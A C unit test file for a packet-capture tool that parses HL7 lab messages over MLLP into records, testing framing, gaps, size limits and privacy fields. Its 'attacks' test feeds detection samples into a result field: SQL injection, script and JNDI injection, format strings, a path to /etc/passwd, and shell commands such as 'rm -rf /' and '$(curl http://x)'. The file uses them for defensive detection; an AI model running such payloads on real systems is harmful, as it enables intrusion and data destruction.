/* app: streams of lab protocols in, records out. Messages are written for these tests. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "app_collect.h"
#include "app_frames.h"

#define ORU                                                                                                                                          \
    "MSH|^~\\&|XN-20^00-01|LAB|LIS|HOSP|20260302080000||ORU^R01^ORU_R01|A-1|P|2.5.1||||||UNICODE UTF-8\r"                                            \
    "PID|1||P123^^^HOSP^MR~Q9||DOE^JANE||19700101|F\r"                                                                                               \
    "OBR|1|B77^X|F88|PANEL^Panel^L|||20260302075900\r"                                                                                               \
    "OBX|1|NM|718-7^Hemoglobin^LN^HGB^Hb^L||13.2|g/dL^gram^UCUM|12-16|N~A|||F|||20260302080000+0100||||SN100045\r"                                   \
    "OBX|2|ST|^^^COM^Comment^L||a\\T\\b||||||P\r"
#define BLOCK(m) "\x0b" m "\x1c\r"

static const char oru_lines[] =
    "lab.message; id=f7.0.1; protocol=hl7; type=ORU^R01; control_id=A-1; sender=XN-20^00-01; receiver=LIS; version=2.5.1; charset=UNICODE UTF-8; "
    "sent_at=2026-03-02T08:00:00; results=2; "
    "patients=1; bytes=338; patient=P123; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101\n"
    "lab.result; message=f7.0.1; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101; test.code=718-7; test.system=LN; "
    "test.text=Hemoglobin; "
    "patient=P123; specimen=B77; order=B77; value=13.2; value_type=NM; units=g/dL; flags=N; flags=A; status=F; "
    "observed_at=2026-03-02T08:00:00+01:00; range=12-16; test.alternate=HGB; filler=F88\n"
    "lab.result; message=f7.0.1; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101; test.code=COM; test.system=L; test.text=Comment; "
    "patient=P123; specimen=B77; order=B77; value=a&b; value_type=ST; status=P; observed_at=2026-03-02T07:59:00; filler=F88\n";

static void feed_cut(struct collect *k, int direction, struct span s, size_t step)
{
    while (s.n > 0)
        collect_data(k, direction, span_take(&s, s.n < step ? s.n : step));
}

static void has(struct collect *k, const char *text)
{
    if (strstr(buf_text(&k->lines), text) == NULL)
        fail_msg("\"%s\" is not in:\n%s", text, buf_text(&k->lines));
}

static void has_not(struct collect *k, const char *text)
{
    if (strstr(buf_text(&k->lines), text) != NULL)
        fail_msg("\"%s\" is in:\n%s", text, buf_text(&k->lines));
}

static void hl7_cut_anywhere(void **state)
{
    (void)state;
    struct span stream = SPAN_LIT(BLOCK(ORU));
    for (size_t step = 1; step <= stream.n; step++) {
        struct collect k;
        collect_open(&k, 0, false);
        feed_cut(&k, 0, stream, step);
        assert_string_equal(buf_text(&k.lines), oru_lines);
        assert_string_equal(app_label(k.flow), "hl7");
        assert_int_equal(k.stats.hl7_messages, 1);
        assert_int_equal(k.stats.results, 2);
        collect_close(&k);
    }
}

static void hl7_acks(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, true);
    collect_data(&k, 0, SPAN_LIT(BLOCK(ORU)));
    collect_data(&k, 1, SPAN_LIT(BLOCK("MSH|^~\\&|LIS|HOSP|XN-20|LAB|2026||ACK^R01^ACK|L-1|P|2.5.1\rMSA|AE|A-1\r")));
    has(&k, "lab.message; id=f7.1.1; protocol=hl7; type=ACK; control_id=L-1; sender=LIS; receiver=XN-20; version=2.5.1; sent_at=2026; results=0; "
            "patients=0; bytes=69; "
            "ack.code=AE; ack.for=A-1\n");
    has(&k, "asset.evidence; ip=10.0.0.1; model=XN-20; serial=SN100045; software=00-01; role=analyzer; source=hl7.msh; said=XN-20; said=00-01; "
            "facility=LAB; sender=XN-20^00-01; private=");
    has(&k, "asset.evidence; ip=10.0.0.2; software=LIS; role=lis; source=hl7.msh; said=LIS; facility=HOSP; sender=LIS");
    /* MLLP release 2: a commit block answers the last block of the other side; it is no message, and not counted */
    collect_data(&k, 0, SPAN_LIT("\x0b\x06\x1c\r"));
    has(&k, "lab.message; id=f7.0.2; protocol=hl7; type=MLLP.ACK; results=0; patients=0; bytes=1; ack.code=ACK; ack.message=f7.1.1\n");
    collect_data(&k, 1, SPAN_LIT("\x0b\x15\x1c\r"));
    has(&k, "id=f7.1.2; protocol=hl7; type=MLLP.NAK; results=0; patients=0; bytes=1; ack.code=NAK; ack.message=f7.0.2\n");
    assert_int_equal(k.stats.hl7_messages, 2);
    collect_close(&k);
}

static void hl7_middleware(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, true);
    collect_data(&k, 0, SPAN_LIT(BLOCK(ORU)));
    collect_data(&k, 1, SPAN_LIT(BLOCK("MSH|^~\\&|MW|||||| ACK|1|P|2.5\rMSA|AA|A-1\r")));
    has(&k, "ip=10.0.0.2; software=MW; role=lis");
    collect_end_flow(&k);
    k.ref.src = k.ref.dst;
    collect_data(&k, 0, SPAN_LIT(BLOCK(ORU)));
    has(&k, "ip=10.0.0.2; model=XN-20; serial=SN100045; software=00-01; role=middleware");
    size_t before = k.lines.n;
    collect_data(&k, 0, SPAN_LIT(BLOCK(ORU)));
    struct span again = span_of(k.lines.p + before, k.lines.n - before);
    assert_null(memmem(again.p, again.n, "asset.evidence", 14)); /* told once */
    collect_close(&k);
}

static void hl7_specimens(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    /* OUL: SPM, SAC before the order; two specimens */
    collect_data(&k, 0,
                 SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||OUL^R22^OUL_R22|1|P|2.5.1\rPID|||P1\r"
                                "SPM|1|S1&NS^F1\rSAC|||C1\rOBR|1|O1||T\rORC|RE|X1\rOBX|1|NM|T1||1||||||F\r"
                                "SPM|2|\rSAC|||C2\rOBR|1|O2||T\rOBX|1|NM|T2||2||||||F\r")));
    has(&k, "test.code=T1; patient=P1; specimen=S1; order=O1; container=C1; value=1");
    has(&k, "test.code=T2; patient=P1; specimen=C2; order=O2; container=C2; value=2");
    /* ORU: SPM behind the observations it belongs to */
    collect_data(&k, 0,
                 SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||ORU^R01|2|P|2.5.1\rPID|||P2\r"
                                "ORC|RE|O3\rOBR|1|||T\rOBX|1|NM|T3||3||||||F\rSPM|1|^S3\r"
                                "OBR|2|O4||T\rOBX|1|NM|T4||4||||||F\r"
                                "PID|||P3\rOBR|1||F5|T\rOBX|1|NM|T5||5|10^3/uL|||||F\r")));
    has(&k, "test.code=T3; patient=P2; specimen=S3; order=O3; value=3");
    has(&k, "test.code=T4; patient=P2; specimen=O4; order=O4; value=4");
    has(&k, "test.code=T5; patient=P3; specimen=F5; order=F5; value=5; value_type=NM; units=10^3/uL; status=F");
    has(&k, "patients=2");
    collect_close(&k);
}

static void hl7_odd_but_fine(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||ORU^R01|1|P|2.3\nPID|||P1\nOBX|1|NM|T1||1||||||F"))); /* LF, last end missing */
    collect_data(&k, 0, SPAN_LIT("\r\n" BLOCK("MSH#:+!*#A##B##2026##ORU:R01#2#P#2.3\r\nPID###P2\r\nOBX#1#NM#T:x!F!y:L##2!S!3######F\r\n")));
    has(&k, "results=1; patients=1");
    has(&k, "type=ORU^R01; control_id=2");
    has(&k, "test.code=T; test.system=L; test.text=x#y; patient=P2; value=2:3");
    collect_data(
        &k, 0,
        SPAN_LIT(BLOCK(
            "BHS|^~\\&|A\rMSH|^~\\&|A||B||2026||ORU^R01|3|P|2.3\rOBX|1|NM|T1||1\rMSH|^~\\&|A||B||2026||ORU^R01|4|P|2.3\rOBX|1|NM|T1||1\rBTS|2\r")));
    has(&k, "control_id=3; sender=A; receiver=B; version=2.3; sent_at=2026; results=1; patients=0; bytes=52; batch=f7.0.3\n");
    has(&k, "control_id=4; sender=A; receiver=B; version=2.3; sent_at=2026; results=1; patients=0; bytes=52; batch=f7.0.3\n");
    assert_int_equal(k.stats.hl7_messages, 3); /* a batch in one block is counted once */
    assert_int_equal(k.stats.results, 4);
    assert_int_equal(k.stats.malformed, 0);
    has_not(&k, "malformed");
    collect_close(&k);
}

/* A message's own time: whole, with fraction and zone; what is no time is never shown. */
static void sent_at(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||20260302080000.25-0500^S||ADT^A01|1|P|2.3\r")));
    has(&k, "version=2.3; sent_at=2026-03-02T08:00:00.25-05:00; results=0");
    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||DOE^JANE||ADT^A01|2|P|2.3\r") BLOCK("MSH|^~\\&|A||B||20261302||ADT^A01|3|P|2.3\r")));
    has(&k, "control_id=2; sender=A; receiver=B; version=2.3; results=0");
    has(&k, "control_id=3; sender=A; receiver=B; version=2.3; results=0");
    collect_close(&k);
}

static void hl7_framing_violations(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
#define SMALL "MSH|^~\\&|A||B||2026||ORU^R01|1|P|2.3\r"
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL BLOCK(SMALL)));
    has(&k, "malformed=framing: the block is not ended and another one begins at byte 37");
    assert_int_equal(k.stats.hl7_messages, 1);
    collect_data(&k, 0, SPAN_LIT("junk" BLOCK(SMALL)));
    has(&k, "malformed=framing: 4 bytes outside a block before this one");
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL "\x1c" BLOCK(SMALL)));
    has(&k, "malformed=framing: no 0x0D after the 0x1C at byte 37");
    collect_data(&k, 0, SPAN_LIT(BLOCK("hello")));
    has(&k, "malformed=MSH: the message does not begin");
    assert_int_equal(k.stats.hl7_messages, 5);
    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||ORU^R01|1|P|2.3\rOBX|1\rnot a segment\r")));
    has(&k, "malformed=segment 3 (byte 43): does not begin with a segment name");
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL));
    collect_end_flow(&k);
    has(&k, "malformed=framing: the stream ends before the block does at byte 37");
    assert_int_equal(k.stats.hl7_messages, 6);
    assert_int_equal(k.stats.malformed, 6);
    collect_close(&k);
}

static void hl7_holes(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL "OBX|1|NM|T1||11|||\rOBX|2|NM|T2||2"));
    app_gap(k.c, &k.flow, &k.ref, 0, 40, 1000);
    collect_data(&k, 0, SPAN_LIT("5|||\rOBX|4|NM|T4||4|||\r\x1c\r" BLOCK(SMALL)));
    has(&k, "results=2; patients=0; bytes=93; malformed=bytes are missing at byte 70: the capture lost them");
    has(&k, "test.code=T1; value=11");
    has_not(&k, "test.code=T2"); /* torn: nothing of it is told */
    has(&k, "test.code=T4; value=4");
    assert_int_equal(k.stats.hl7_messages, 2);
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL));
    app_gap(k.c, &k.flow, &k.ref, 0, 40, 1000);
    collect_data(&k, 0, SPAN_LIT("x\r" BLOCK(SMALL))); /* the end went with the hole */
    assert_int_equal(k.stats.hl7_messages, 4);
    app_gap(k.c, &k.flow, &k.ref, 0, 40, 1000);
    collect_data(&k, 0, SPAN_LIT("tail of a message\r\x1c\r" BLOCK(SMALL)));
    assert_int_equal(k.stats.hl7_messages, 5);
    assert_int_equal(k.stats.malformed, 2);
    collect_close(&k);
}

static void hl7_limits(void **state)
{
    (void)state;
    for (size_t step = 1; step < 60000; step = step * 3 + 1) {
        struct collect k;
        collect_open(&k, 10000, false);
        struct buf stream = BUF_INIT(1 << 20);
        buf_add_str(&stream, "\x0b" SMALL "OBX|1|ED|T1||");
        for (int i = 0; i < 50000; i++)
            buf_u8(&stream, 'A');
        buf_add_str(&stream, "\r\x1c\r" BLOCK(ORU));
        feed_cut(&k, 0, buf_span(&stream), step);
        has(&k, "type=ORU^R01; control_id=1; sender=A; receiver=B; version=2.3; sent_at=2026; results=0; patients=0; bytes=50051; malformed=message "
                "of 50051 bytes "
                "is over the limit of 10000");
        has(&k, "id=f7.0.2; protocol=hl7; type=ORU^R01; control_id=A-1");
        assert_int_equal(k.stats.hl7_messages, 2);
        assert_int_equal(k.stats.results, 2);
        buf_release(&stream);
        collect_close(&k);
    }
}

static void hl7_large_value(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    struct buf stream = BUF_INIT(1 << 20);
    buf_add_str(&stream, "\x0b" SMALL "OBX|1|ED|T1||");
    for (int i = 0; i < 100000; i++)
        buf_u8(&stream, i < 65536 ? 'a' : 'b');
    buf_add_str(&stream, "|\r\x1c\r");
    collect_data(&k, 0, buf_span(&stream));
    has(&k, "value=aaaa");
    has(&k, "aaa; value=bbb"); /* two pieces, the first as long as a text may be */
    has(&k, "bbb; value_type=ED");
    assert_in_range(k.lines.n, 100000, 100400);
    buf_release(&stream);
    collect_close(&k);
}

static void put_cut(void *context, const struct record *r)
{
    struct buf *out = context;
    size_t bytes = 0;
    for (size_t i = 0; i < r->n; i++)
        bytes += r->fields[i].key == KEY_VALUE ? r->fields[i].text.n : 0;
    if (r->event == EVENT_LAB_RESULT)
        buf_addf(out, "%zu %d\n", bytes, r->cut);
}

/* What is behind the last piece is left out, and the record says so; the next one is whole again. */
static void hl7_value_over_the_limit(void **state)
{
    (void)state;
    struct buf lines = BUF_INIT(1000);
    struct sense_options options = {.limits = sense_default_limits, .sink = {.put = put_cut, .context = &lines}};
    struct sense_stats stats = {0};
    struct error e;
    struct app_context *c = app_context_new(&options, &stats, &e);
    assert_non_null(c);
    struct app_flow *flow = NULL;
    const struct flow_ref ref = {.id = 1};
    struct buf stream = BUF_INIT(1 << 20);
    buf_add_str(&stream, "\x0b" SMALL "OBX|1|ED|T1||");
    for (size_t i = 0; i < 8 * RECORD_TEXT + 1; i++)
        buf_u8(&stream, 'a');
    buf_add_str(&stream, "\rOBX|2|ST|T2||x\r\x1c\r");
    app_data(c, &flow, &ref, 0, buf_span(&stream), 1000);
    assert_string_equal(buf_text(&lines), "524288 1\n1 0\n");
    app_close(c, &flow, &ref, 1000);
    app_context_free(c);
    buf_release(&stream);
    buf_release(&lines);
}

static void many_private_fields(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    struct buf stream = BUF_INIT(1 << 20);
    buf_add_str(&stream, "\x0b" SMALL "PID|");
    for (int i = 0; i < 120; i++)
        buf_addf(&stream, "|name%d", i);
    buf_add_str(&stream, "\rOBX|1|NM|T1||1\r\x1c\r");
    collect_data(&k, 0, buf_span(&stream));
    has(&k, "private=name95; private_cut=1\nlab.result");
    has(&k, "private_cut=1; test.code=T1");
    has_not(&k, "name96");
    buf_clear(&stream);
    buf_add_str(&stream, BLOCK("MSH|^~\\&|A||B||2026||ADT^A01|1|P|2.3\rPID|1||P77\rNK1|1|KIN^FOLK\rIN1|1|Insurer Name|x\r"));
    collect_data(&k, 0, buf_span(&stream));
    has(&k, "private=P77; private=KIN^FOLK; private=Insurer Name\n");
    buf_release(&stream);
    collect_close(&k);
}

static void too_many_results(void **state)
{
    (void)state;
    struct collect k;
    struct buf s = BUF_INIT(1 << 20);
    collect_open(&k, 0, false);
    buf_add_str(&s, "\x0b" SMALL);
    for (int i = 0; i < 5000; i++)
        buf_add_str(&s, "OBX|1|NM|T||1\n");
    buf_add_str(&s, "\x1c\r");
    collect_data(&k, 0, buf_span(&s));
    has(&k, "results=5000");
    has(&k, "malformed=OBX: results behind the first 4096 are not read");
    size_t n = 0;
    for (size_t i = 0; i < k.lines.n; i++)
        n += k.lines.p[i] == '\n';
    assert_int_equal(n, 1 + 4096);
    collect_close(&k);
    buf_release(&s);
}

/* ── recognition ── */

static void never_a_message(struct span bytes, const char *label)
{
    for (size_t step = 1; step <= bytes.n; step += 1 + bytes.n / 50) {
        struct collect k;
        collect_open(&k, 0, true);
        feed_cut(&k, 0, bytes, step == 1 ? bytes.n : step);
        if (step == 1)
            assert_string_equal(app_label(k.flow), label);
        assert_int_equal(k.lines.n, 0);
        collect_close(&k);
    }
}

static void other_protocols(void **state)
{
    (void)state;
    never_a_message(SPAN_LIT("GET / HTTP/1.1\r\nHost: x\r\n\r\n\x0bMSH and \x02"
                             "1 more"),
                    "http");
    never_a_message(SPAN_LIT("\x16\x03\x01\x00\x20\x01\x00\x00\x1c\x03\x03 hello"), "tls");
    never_a_message(SPAN_LIT("SSH-2.0-OpenSSH_9.2\r\n"), "ssh");
    never_a_message(SPAN_LIT("\x00\x00\x00\x54\xfeSMB\x40\x00"), "smb");
    never_a_message(SPAN_LIT("<?xml version=\"1.0\"?>\n<HEL.R01>\n<HDR>"), "poct1a");
    never_a_message(SPAN_LIT("220 mail.example ESMTP\r\n"), "smtp");
    never_a_message(SPAN_LIT("\x0bMSH\x0bMSHA\x0b\x1c\r\x05\x02\x03\x04\x05\x02"
                             "1hello\x03"
                             "00\x04"),
                    "");
    never_a_message(SPAN_LIT("{\"id\":1}\x05\x06\x15\x02"), "");
}

static void dicom_associations(void **state)
{
    (void)state;
#define RQ                                                                                                                                           \
    "\x01\x00\x00\x00\x00\x60\x00\x01\x00\x00"                                                                                                       \
    "STORE_SCP       STORE_SCU       "                                                                                                               \
    "012345678901234567890123456789012345678901234567890123456789"
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 0, SPAN_LIT(RQ));
    assert_string_equal(app_label(k.flow), "dicom");
    assert_true(app_done(k.flow, 0));
    assert_false(app_done(k.flow, 1));
    collect_data(&k, 1, SPAN_LIT("\x02\x00\x00\x00\x00\x00"));
    assert_true(app_done(k.flow, 1));
    collect_end_flow(&k);
    collect_data(&k, 0, SPAN_LIT(RQ));
    collect_data(&k, 1, SPAN_LIT("\x03\x00"));
    collect_end_flow(&k);
    collect_data(&k, 1, SPAN_LIT(RQ));
    collect_end_flow(&k);
    assert_string_equal(buf_text(&k.lines), "dicom.association; calling=STORE_SCU; called=STORE_SCP; result=accepted\n"
                                            "dicom.association; calling=STORE_SCU; called=STORE_SCP; result=rejected\n"
                                            "dicom.association; calling=STORE_SCU; called=STORE_SCP; result=not answered\n");
    assert_int_equal(k.stats.dicom_associations, 3);
    collect_close(&k);
}

static void late_and_in_the_middle(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 1, SPAN_LIT("rest of a message\rOBX|3\r\x1c\r")); /* the capture begins inside a message */
    collect_data(&k, 1, SPAN_LIT(BLOCK(ORU)));
    has(&k, "id=f7.1.1; protocol=hl7");
    assert_int_equal(k.stats.malformed, 0);
    collect_end_flow(&k);

    static uint8_t noise[9000];
    for (size_t i = 0; i < sizeof noise; i++)
        noise[i] = (uint8_t)(' ' + i % 90);
    collect_data(&k, 0, span_of(noise, sizeof noise)); /* past the probe */
    assert_false(app_done(k.flow, 0));
    collect_data(&k, 0, SPAN_LIT("\x0bMS"));
    collect_data(&k, 0, SPAN_LIT("H|^~\\&|A||B||2026||ORU^R01|99|P|2.3\r\x1c\r"));
    has(&k, "control_id=99");
    collect_end_flow(&k);
    struct buf s = BUF_INIT(1 << 16);
    collect_data(&k, 0, span_of(noise, sizeof noise));
    buf_u8(&s, 0x05);
    frame(&s, 1, "H|\\^&\rL|1\r", 0x03, 0);
    collect_data(&k, 0, buf_span(&s));
    assert_int_equal(k.stats.astm_messages, 1);
    buf_release(&s);
    collect_end_flow(&k);
    for (int i = 0; i < 200; i++)
        collect_data(&k, 0, span_of(noise, sizeof noise));
    assert_true(app_done(k.flow, 0)); /* given up in the end */
    assert_false(app_done(k.flow, 1));
    collect_close(&k);
}

static void contradictions(void **state)
{
    (void)state;
    struct collect k;
    collect_open(&k, 0, false);
    collect_data(&k, 0, SPAN_LIT("\x0b" SMALL));
    app_conflict(k.c, &k.flow, &k.ref, 0, (struct hops){0}, 1000);
    collect_data(&k, 0, SPAN_LIT("\x1c\r" BLOCK(SMALL)));
    app_conflict(k.c, &k.flow, &k.ref, 0, (struct hops){0}, 1000);
    collect_end_flow(&k);
    has(&k, "malformed=tcp: bytes of this stream were sent twice with different content");
    assert_int_equal(k.stats.malformed, 1); /* once a flow */
    assert_int_equal(k.stats.hl7_messages, 2);
    collect_close(&k);
}

/* ── hostile payloads, and what only looks like it ── */

static void hostile_is(const char *text, const char *want)
{
    struct collect k;
    struct buf s = BUF_INIT(1 << 16);
    collect_open(&k, 0, false);
    buf_addf(&s, "\x0b" SMALL "OBX|1|ST|T||%s|u\r\x1c\r", text);
    collect_data(&k, 0, buf_span(&s));
    char line[200] = "hostile=";
    (void)strncat(line, want, 150);
    if (want[0] != 0)
        has(&k, line);
    else
        has_not(&k, "hostile=");
    assert_int_equal(k.stats.hl7_messages, 1);
    collect_close(&k);
    buf_release(&s);
}

static void attacks(void **state)
{
    (void)state;
    hostile_is("x' OR '1'='1", "SQL injection in OBX-5 (byte 50)");
    hostile_is("1'; DROP TABLE results--", "SQL injection in OBX-5");
    hostile_is("a' UNION ALL SELECT 1,2", "SQL injection in OBX-5");
    hostile_is("<script>alert(1)</script>", "script injection in OBX-5 (byte 49)");
    hostile_is("${jndi:ldap://x/a}", "lookup injection in OBX-5");
    hostile_is("%n%n%n%n", "format string in OBX-5");
    hostile_is("AAAA%7$n", "format string in OBX-5");
    hostile_is("../../../../etc/passwd", "path traversal in OBX-5");
    hostile_is("x; rm -rf /", "shell command in OBX-5");
    hostile_is("$(curl http://x)", "shell command in OBX-5");
    hostile_is("`id`", "shell command in OBX-5");
    hostile_is("*)(uid=*", "LDAP injection in OBX-5");
    hostile_is("a\x01"
               "b",
               "control character in OBX-5");
    hostile_is("^application^octet-stream^Base64^TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
               "an executable program in OBX-5 (segment 2)");
}

static void harmless(void **state)
{
    (void)state;
    hostile_is("<p style=\"x\">10&#37; &lt; 5</p><ClinicalDocument xmlns=\"urn:hl7-org:v3\">", "");
    hostile_is("O'Brien's or 5 tablets; see note & repeat", "");
    hostile_is("100% normal, 5%nitrate, a/b/../c", "");
    hostile_is("\\.br\\C:\\data\\..\\x", "");
    hostile_is("http://lab.example/a?b=1&c=2;d=3", "");
    hostile_is("JVBERi0xLjQKJeLjz9MKMyAwIG9iago8PC9GaWx0ZXIvRmxhdGVEZWNvZGUvTGVuZ3RoIDEwMDA+PnN0cmVhbQp4nK1X", "");
    hostile_is("Select if positive; drop in value; 'and' means both", "");
    hostile_is("caf\xc3\xa9 \xb5mol \x1b(B", "");
}

static void absurd_sizes(void **state)
{
    (void)state;
    struct collect k;
    struct buf s = BUF_INIT(1 << 20);
    collect_open(&k, 0, false);
    buf_add_str(&s, "\x0b" SMALL "OBX");
    for (int i = 0; i < 3000; i++)
        buf_u8(&s, '|');
    buf_add_str(&s, "\r\x1c\r\x0bMSH|^~\\&|");
    for (int i = 0; i < 3000; i++)
        buf_u8(&s, 'A');
    buf_add_str(&s, "||B||2026||ORU^R01|5|P|2.3\r\x1c\r");
    collect_data(&k, 0, buf_span(&s));
    has(&k, "hostile=absurd number of fields (3001) in a segment (byte 37)");
    has(&k, "hostile=absurd length of a field (3000 bytes) of the first segment");
    collect_close(&k);
    buf_release(&s);
}

static void count_types(void *context, const char *type, uint64_t count)
{
    buf_addf(context, "%s=%" PRIu64 " ", type, count);
}

static void types(void **state)
{
    (void)state;
    struct collect k;
    struct buf out = BUF_INIT(1024);
    collect_open(&k, 0, false);
    collect_data(&k, 0,
                 SPAN_LIT(BLOCK("MSH|^~\\&|||||||ORU^R01|1\r") BLOCK("MSH|^~\\&|||||||ORU^R01^X|1\r") BLOCK("MSH|^~\\&|||||||ACK|1\r")
                              BLOCK("MSH|^~\\&|||||||SMITH^JOHN|1\r") BLOCK("MSH|^~\\&|||||||ADT^A01|1\r")));
    app_hl7_types(k.c, count_types, &out);
    assert_string_equal(buf_text(&out), "ACK=1 ADT^A01=1 ORU^R01=2 other=1 "); /* a name in MSH-9 is not printed */
    buf_release(&out);
    collect_close(&k);
}

static void many_unfinished(void **state)
{
    (void)state;
    struct sense_stats stats = {0};
    struct sense_options options = {.limits = sense_default_limits};
    struct error e;
    options.limits.messages_total = 100000;
    struct app_context *c = app_context_new(&options, &stats, &e);
    assert_non_null(c);
    enum { N = 100 };
    struct app_flow *flows[N] = {0};
    struct flow_ref ref = {.id = 1};
    static char body[3000];
    memset(body, 'x', sizeof body);
    for (int round = 0; round < 3; round++) {
        for (size_t i = 0; i < N; i++) {
            app_data(c, &flows[i], &ref, 0, SPAN_LIT("\x0b" SMALL "NTE|1||"), 1);
            app_data(c, &flows[i], &ref, 0, span_of(body, sizeof body), 1);
        }
        for (size_t i = 0; i < N; i++)
            app_data(c, &flows[i], &ref, 0, SPAN_LIT("\r\x1c\r"), 1);
    }
    assert_int_equal(stats.hl7_messages, 3 * N);
    assert_true(stats.malformed > 0 && stats.malformed < 3 * N); /* some could not be kept, and that is said */
    for (size_t i = 0; i < N; i++)
        app_close(c, &flows[i], &ref, 1);
    app_context_free(c);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(hl7_cut_anywhere),
        cmocka_unit_test(hl7_acks),
        cmocka_unit_test(hl7_middleware),
        cmocka_unit_test(hl7_specimens),
        cmocka_unit_test(hl7_odd_but_fine),
        cmocka_unit_test(sent_at),
        cmocka_unit_test(hl7_framing_violations),
        cmocka_unit_test(hl7_holes),
        cmocka_unit_test(hl7_limits),
        cmocka_unit_test(hl7_large_value),
        cmocka_unit_test(hl7_value_over_the_limit),
        cmocka_unit_test(many_private_fields),
        cmocka_unit_test(other_protocols),
        cmocka_unit_test(late_and_in_the_middle),
        cmocka_unit_test(contradictions),
        cmocka_unit_test(attacks),
        cmocka_unit_test(harmless),
        cmocka_unit_test(absurd_sizes),
        cmocka_unit_test(types),
        cmocka_unit_test(many_unfinished),
        cmocka_unit_test(dicom_associations),
        cmocka_unit_test(too_many_results),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
